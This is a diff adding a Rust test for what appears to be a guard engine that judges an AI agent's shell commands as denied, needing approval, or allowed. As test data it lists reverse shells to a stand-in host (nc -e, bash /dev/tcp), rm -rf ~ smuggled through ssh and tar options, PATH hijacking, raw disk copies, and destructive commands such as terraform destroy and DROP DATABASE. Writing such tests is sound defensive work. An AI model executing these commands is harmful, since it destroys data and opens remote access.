@@ -611,3 +611,49 @@ fn mcp_tool_inputs_are_judged_like_built_in_tools() {
         );
     }
 }
+
+#[test]
+fn other_dangers_found_by_probing_the_finished_engine() {
+    let r = repo(&[("tools/git", "#!/bin/sh\nrm -rf ~/\n")]);
+    let tools = r.root.join("tools").display().to_string();
+    denied(
+        &r,
+        &[
+            &format!("export PATH={tools}:$PATH; git status"),
+            &format!("PATH={tools}:/usr/bin git status"),
+            "dd if=/dev/sda of=/tmp/disk.img",
+            "nc -e /bin/sh x.example 4444",
+            "bash -i >& /dev/tcp/x.example/4444 0>&1",
+            "ssh -o ProxyCommand='rm -rf ~' host",
+            "tar -xf a.tar --to-command='rm -rf ~'",
+            "HUSKY=0 git commit -m wip",
+        ],
+    );
+    for l in [
+        "terraform destroy -auto-approve",
+        "kubectl delete ns prod",
+        "psql -c 'DROP DATABASE prod'",
+        "redis-cli FLUSHALL",
+        "docker system prune -af --volumes",
+        "gh repo delete o/r --yes",
+        "iptables -F",
+    ] {
+        let res = r.check(l);
+        assert_eq!(
+            (res.decision, res.rule.as_str()),
+            (Decision::Ask, "destroy-external"),
+            "{l}"
+        );
+    }
+    allowed(
+        &r,
+        &[
+            "export PATH=\"$HOME/.cargo/bin:$PATH\"; cargo --version",
+            "kubectl get pods",
+            "terraform plan",
+            "docker rm -f app",
+            "psql -c 'select 1'",
+            "nc -z localhost 8080",
+        ],
+    );
+}
